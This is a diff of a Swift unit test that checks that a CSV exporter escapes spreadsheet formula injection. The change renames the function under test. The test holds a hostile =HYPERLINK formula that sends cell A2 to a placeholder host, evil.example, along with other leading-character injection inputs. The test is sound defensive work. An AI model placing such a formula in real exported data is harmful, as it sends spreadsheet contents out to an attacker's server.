@@ -164,11 +164,11 @@ struct OverviewTests {
     @Test("a display name that a spreadsheet would take for a formula is written as text")
     func formulaInjection() async throws {
         let hostile = #"=HYPERLINK("https://evil.example/?x="&A2,"Evil")"#
-        #expect(OverviewCSV.field(hostile) == "\"'=HYPERLINK(\"\"https://evil.example/?x=\"\"&A2,\"\"Evil\"\")\"")
+        #expect(CSVDocument().cell(hostile) == "\"'=HYPERLINK(\"\"https://evil.example/?x=\"\"&A2,\"\"Evil\"\")\"")
         for lead in ["+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
-            #expect(OverviewCSV.field(lead).hasPrefix("'") || OverviewCSV.field(lead).hasPrefix("\"'"))
+            #expect(CSVDocument().cell(lead).hasPrefix("'") || CSVDocument().cell(lead).hasPrefix("\"'"))
         }
-        #expect(OverviewCSV.field("MedicalMountains") == "MedicalMountains")
-        #expect(OverviewCSV.field("a\r\nb") == "\"a\r\nb\"")
+        #expect(CSVDocument().cell("MedicalMountains") == "MedicalMountains")
+        #expect(CSVDocument().cell("a\r\nb") == "\"a\r\nb\"")
     }
 }
